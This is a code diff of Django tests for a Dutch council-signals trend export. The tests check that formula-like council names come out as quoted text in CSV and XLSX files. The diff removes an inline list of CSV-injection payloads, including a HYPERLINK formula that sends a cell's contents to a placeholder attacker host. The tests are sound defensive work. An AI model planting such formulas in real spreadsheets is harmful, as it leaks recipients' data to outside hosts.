@@ -4,41 +4,18 @@ that a spreadsheet would take for a formula goes out as text. Same query count a
 
 from __future__ import annotations
 
-import csv
-import io
-
-import openpyxl
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 
+from common.tests.spreadsheets import FORMULA_ATTACKS as ATTACKS
+from common.tests.spreadsheets import body, read_csv, read_xlsx
 from councils.tests.factories import CouncilFactory
 from signals.tests.factories import SignalFactory
 
 pytestmark = pytest.mark.django_db
 
 HEADER = ["maand", "raad", "regeling", "onderwerp", "aantal"]
-# OWASP "CSV injection": each would be a live formula (or a cell that starts one) unneutralised.
-ATTACKS = [
-    '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")',
-    "+1",
-    "-1+1",
-    "@SUM(A1)",
-    "\tx",
-    "\rx",
-]
-
-
-def _body(response) -> bytes:
-    return b"".join(response.streaming_content) if response.streaming else response.content
-
-
-def read_csv(response) -> list[list[str]]:
-    body = _body(response)
-    assert body.startswith(b"\xef\xbb\xbf"), "no byte order mark: Excel reads CliÃ«ntenraad"
-    text = body.decode("utf-8")
-    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
-    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))
 
 
 def test_trends_csv_opens_in_dutch_excel(client, roles):
@@ -60,7 +37,7 @@ def test_trends_xlsx_holds_the_same_rows_with_numbers_as_numbers(client, roles):
     response = client.get("/mijn/signalen/trends.xlsx")
     assert response.status_code == 200
     assert response["Content-Disposition"] == 'attachment; filename="signalen-trends.xlsx"'
-    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    sheet = read_xlsx(response)
     rows = [list(r) for r in sheet.iter_rows(values_only=True)]
     assert rows[0] == HEADER
     assert rows[1][1:] == ["Districtscliëntenraad Noord", "WW", "brieven", 3]
@@ -73,9 +50,7 @@ def test_a_council_name_that_is_a_formula_goes_out_as_text(client, roles):
     client.force_login(roles["administrator"])
     names = {row[1] for row in read_csv(client.get("/mijn/signalen/trends.csv"))[1:]}
     assert names == {f"'{a}" for a in ATTACKS}
-    sheet = openpyxl.load_workbook(
-        io.BytesIO(client.get("/mijn/signalen/trends.xlsx").content)
-    ).active
+    sheet = read_xlsx(client.get("/mijn/signalen/trends.xlsx"))
     cells = [row[1] for row in sheet.iter_rows(min_row=2)]
     assert {c.value for c in cells} == {f"'{a}" for a in ATTACKS}
     assert {c.data_type for c in cells} == {"s"}
@@ -89,7 +64,7 @@ def test_the_export_takes_the_same_queries_for_few_and_many_signals(client, role
         SignalFactory.create_batch(n, council=CouncilFactory())
         with CaptureQueriesContext(connection) as queries:
             response = client.get(f"/mijn/signalen/trends.{fmt}")
-            _body(response)
+            body(response)
         counts.append(len(queries))
     assert counts[0] == counts[1], counts
 
